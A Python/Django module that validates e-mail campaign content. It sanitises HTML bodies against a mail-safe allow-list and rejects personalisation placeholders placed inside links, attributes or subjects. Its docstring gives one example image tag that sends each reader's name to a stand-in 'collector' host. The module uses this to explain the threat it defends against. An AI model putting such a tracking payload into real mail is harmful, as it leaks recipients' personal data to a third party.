"""What a campaign's subject and bodies may contain, as plain functions.

Marketing must never see a reader's personal data, yet the pipeline puts each reader's name
and personal unsubscribe link into the mail. So a placeholder is replaced only where the
reader alone sees the value: in text. Inside a URL, an attribute or a header it would travel
to whoever the URL names (`<img src="https://collector.example/?n={name}">` hands every
reader's name to the collector as the image loads). The one exception is the unsubscribe link
as the whole `href` of a link, which points at our own site.

The HTML body is reduced to an allow-list of mail-safe markup with nh3 when it is saved, so
what is stored, previewed and sent is the same: no script, no event handler, no style element,
no form, only http, https and mailto links; inline styles keep only presentational
properties (no `url()`, which could load anything).
"""

from __future__ import annotations

import functools
import re
from html.parser import HTMLParser

import nh3
from django.utils.translation import gettext as _

NAME = "{name}"
UNSUBSCRIBE_URL = "{unsubscribe_url}"
PLACEHOLDERS = (NAME, UNSUBSCRIBE_URL)

ALLOWED_TAGS = frozenset({
    "a", "abbr", "b", "blockquote", "br", "caption", "center", "code", "div", "em", "h1", "h2",
    "h3", "h4", "h5", "h6", "hr", "i", "img", "li", "ol", "p", "pre", "s", "small", "span",
    "strong", "sub", "sup", "table", "tbody", "td", "tfoot", "th", "thead", "tr", "u", "ul",
})  # fmt: skip
_CELL = {"align", "valign", "width", "height", "colspan", "rowspan", "bgcolor"}
ALLOWED_ATTRIBUTES = {
    "*": {"style", "title", "dir", "lang", "align"},
    "a": {"href"},
    "img": {"src", "alt", "width", "height", "border"},
    "table": {"width", "border", "cellpadding", "cellspacing", "bgcolor", "role"},
    "td": _CELL,
    "th": _CELL,
    "ol": {"start", "type"},
}
ALLOWED_URL_SCHEMES = frozenset({"http", "https", "mailto"})
ALLOWED_STYLE_PROPERTIES = frozenset({
    "color", "background-color", "font-family", "font-size", "font-style", "font-weight",
    "line-height", "letter-spacing", "text-align", "text-decoration", "vertical-align",
    "margin", "margin-top", "margin-bottom", "margin-left", "margin-right", "padding",
    "padding-top", "padding-bottom", "padding-left", "padding-right", "border",
    "border-collapse", "border-color", "border-style", "border-width", "width", "max-width",
    "height", "display",
})  # fmt: skip

# Tags that do not break a line of text: a URL can run across them (`https://x/?n=<b>{name}`).
_INLINE_TAGS = frozenset({"a", "abbr", "b", "code", "em", "i", "s", "small", "span", "strong",
                          "sub", "sup", "u"})  # fmt: skip
# What makes a run of text (no spaces) a link a mail client would make clickable.
_LINK_LIKE = re.compile(r"://|\bwww\.|mailto:|@|[a-z0-9-]\.[a-z]{2,}", re.IGNORECASE | re.ASCII)
_PLACEHOLDER = re.compile("|".join(re.escape(p) for p in PLACEHOLDERS))


def _relative_url(url: str) -> str | None:
    # A relative link means nothing in a mail; the unsubscribe placeholder is the exception.
    return url if url.strip() == UNSUBSCRIBE_URL else None


@functools.cache
def _cleaner() -> nh3.Cleaner:
    return nh3.Cleaner(
        tags=set(ALLOWED_TAGS),
        attributes={tag: set(names) for tag, names in ALLOWED_ATTRIBUTES.items()},
        url_schemes=set(ALLOWED_URL_SCHEMES),
        url_relative=_relative_url,
        filter_style_properties=set(ALLOWED_STYLE_PROPERTIES),
        strip_comments=True,
        link_rel="noopener noreferrer",
    )


def html_clean(body_html: str) -> str:
    """The HTML body reduced to the allow-list. Idempotent: cleaning it again changes nothing."""
    return _cleaner().clean(body_html or "").strip()


class _Scan(HTMLParser):
    """Where placeholders sit in an HTML body: in attributes (tag, attribute, value) and in the
    text, with a space wherever a block tag breaks the line."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.in_attributes: list[tuple[str, str]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        for name, value in attrs:
            value = value or ""
            if tag == "a" and name == "href" and value.strip() == UNSUBSCRIBE_URL:
                continue
            if _PLACEHOLDER.search(value) or _PLACEHOLDER.search(name):
                self.in_attributes.append((tag, name))
        if tag not in _INLINE_TAGS:
            self.text.append(" ")

    handle_startendtag = handle_starttag

    def handle_endtag(self, tag):
        if tag not in _INLINE_TAGS:
            self.text.append(" ")

    def handle_data(self, data):
        self.text.append(data)


def _scan(body_html: str) -> _Scan:
    scan = _Scan()
    scan.feed(body_html or "")
    scan.close()
    return scan


def text_problems(text: str) -> list[str]:
    """A placeholder in text that touches something a mail client would turn into a link."""
    problems = []
    for run in re.split(r"\s+", text or ""):
        if _PLACEHOLDER.search(run) and _LINK_LIKE.search(_PLACEHOLDER.sub(" ", run)):
            problems.append(
                _(
                    "“%(run)s”: a placeholder is part of a web or mail address. Placeholders are "
                    "replaced only in text, never inside an address; leave a space around it."
                )
                % {"run": run[:80]}
            )
    return problems


def html_problems(body_html: str) -> list[str]:
    """Placeholders in attributes (other than the unsubscribe link's whole href) or inside an
    address in the text."""
    scan = _scan(body_html)
    problems = [
        _(
            "A placeholder is inside the “%(attribute)s” attribute of <%(tag)s>. Placeholders are "
            "replaced only in text, never in a link, an image address or another attribute; the "
            'one exception is <a href="{unsubscribe_url}">.'
        )
        % {"attribute": name, "tag": tag}
        for tag, name in dict.fromkeys(scan.in_attributes)
    ]
    return problems + text_problems("".join(scan.text))


def subject_problems(subject: str) -> list[str]:
    if _PLACEHOLDER.search(subject or ""):
        return [
            _(
                "The subject is a mail header: placeholders are not replaced in it. Use them "
                "in the body."
            )
        ]
    return []


def content_problems(*, subject: str, body_text: str, body_html: str) -> dict[str, list[str]]:
    """Every reason the stored content cannot be sent, by field; empty when it can."""
    problems = {
        "subject": subject_problems(subject),
        "body_text": text_problems(body_text),
        "body_html": html_problems(body_html),
    }
    if (body_html or "").strip() and html_clean(body_html) != body_html.strip():
        problems["body_html"].insert(
            0,
            _(
                "The HTML body contains markup that is not allowed in mail (scripts, event "
                "handlers, other links than http, https and mailto). Save the campaign again "
                "to remove it."
            ),
        )
    return {field: found for field, found in problems.items() if found}
